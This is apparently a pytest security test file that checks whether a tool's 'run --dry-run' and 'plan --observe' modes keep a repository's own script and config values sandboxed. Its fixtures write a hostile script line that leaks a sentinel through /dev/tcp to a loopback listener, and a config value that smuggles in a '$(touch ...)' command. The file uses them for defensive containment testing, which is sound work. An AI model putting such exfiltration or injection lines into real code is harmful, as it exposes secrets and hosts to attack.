"""Issue 22, item 1: the repo's own bash script (observed to learn what it runs) and its config values run
inside the sandbox, whichever verb observes it; `tipc lint` and `tipc plan` without --observe run nothing.

`tipc run` observes it too (tests/security/test_run_attacks.py), `tipc check` and `tipc review` as well
(test_check.py, test_review.py). Here one hostile copy per reviewer, with both attacks, goes through
`run --dry-run` and `plan --observe`."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.security.conftest import (
    CONFIG,
    HostileRepo,
    Listener,
    Reviewer,
    _hostile,
    contained,
    ended,
    json_out,
)

pytestmark = pytest.mark.integration

VERBS = {
    "run --dry-run": ("run", "{repo}", "--dry-run", "--device", "cpu", "--no-color"),
    "plan --observe": ("plan", "{config}", "--observe", "--device", "cpu", "--format", "json"),
}


@dataclass
class Observed:
    repo: HostileRepo
    done: dict[str, subprocess.CompletedProcess[str]]  # verb -> what tipc did
    received: bytes
    script_marker: Path
    value_marker: Path


def _script_attack(repo: HostileRepo, listener: Listener) -> Path:
    marker = repo.reviewer.host / "observed.txt"
    repo.script_line(
        f"touch {marker}; "
        f"(echo leak {repo.sentinel} > /dev/tcp/127.0.0.1/{listener.port}) 2>/dev/null || true"
    )
    return marker


@pytest.fixture(scope="module")
def observed(module_reviewer: Reviewer) -> Iterator[Observed]:
    repo = _hostile(module_reviewer)
    listener = Listener()
    try:
        marker = _script_attack(repo, listener)
        value_marker = module_reviewer.host / "config_value.txt"
        repo.config_value("norm_train", f"train.py --data_dir=./lite_data $(touch {value_marker})").seal()
        done = {}
        for verb, words in VERBS.items():
            args = [a.format(repo=repo.repo, config=repo.repo / CONFIG) for a in words]
            done[verb] = module_reviewer.tipc(*args)
        yield Observed(repo, done, listener.received(), marker, value_marker)
    finally:
        listener.close()


@pytest.mark.parametrize("verb", list(VERBS))
def test_a_line_of_the_repo_script_runs_in_the_sandbox(observed: Observed, verb: str) -> None:
    ended(observed.done[verb], 0, 1)
    contained(
        not observed.script_marker.exists(), f"a line of the repo's script created {observed.script_marker}"
    )
    contained(
        observed.received == b"",
        f"the repo's script reached the host's loopback: {observed.received[:200]!r}",
    )
    contained(observed.repo.unchanged(), f"the repo changed: {observed.repo.changed_files()}")


@pytest.mark.parametrize("verb", list(VERBS))
def test_a_config_value_is_not_shell_evaluated_on_the_host(observed: Observed, verb: str) -> None:
    ended(observed.done[verb], 0, 1, 2)
    contained(
        not observed.value_marker.exists(), f"the config value $(touch ...) created {observed.value_marker}"
    )


def test_the_observed_plan_is_still_made(observed: Observed) -> None:
    """Contained is not broken: the script, observed in the sandbox, still gives the commands it runs."""
    steps = json_out(observed.done["plan --observe"])["steps"]
    assert any("train.py" in " ".join(s["argv"]) for s in steps), steps
    assert any("infer.py" in " ".join(s["argv"]) for s in steps), steps


@pytest.mark.parametrize("reviewer", ["root", "user"], indirect=True)
def test_lint_and_plan_without_observe_run_nothing_from_the_repo(
    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener
) -> None:
    """What holds today: lint and the profile plan read the repo, they never run it."""
    marker = _script_attack(hostile_demo, listener)
    value_marker = reviewer.host / "config_value.txt"
    hostile_demo.config_value("norm_train", f"train.py $(touch {value_marker})")
    hostile_demo.train("write", targets={"host": str(reviewer.host / "train.txt")}).seal()
    ended(reviewer.tipc("lint", str(hostile_demo.repo)), 0, 1)
    done = reviewer.tipc("plan", str(hostile_demo.repo / CONFIG), "--device", "cpu", "--format", "json")
    ended(done, 0, 1)
    assert json_out(done)["steps"], "the profile plan has no steps"
    assert not marker.exists() and listener.received() == b"" and hostile_demo.unchanged()
    assert not value_marker.exists() and not (reviewer.host / "train.txt").exists()
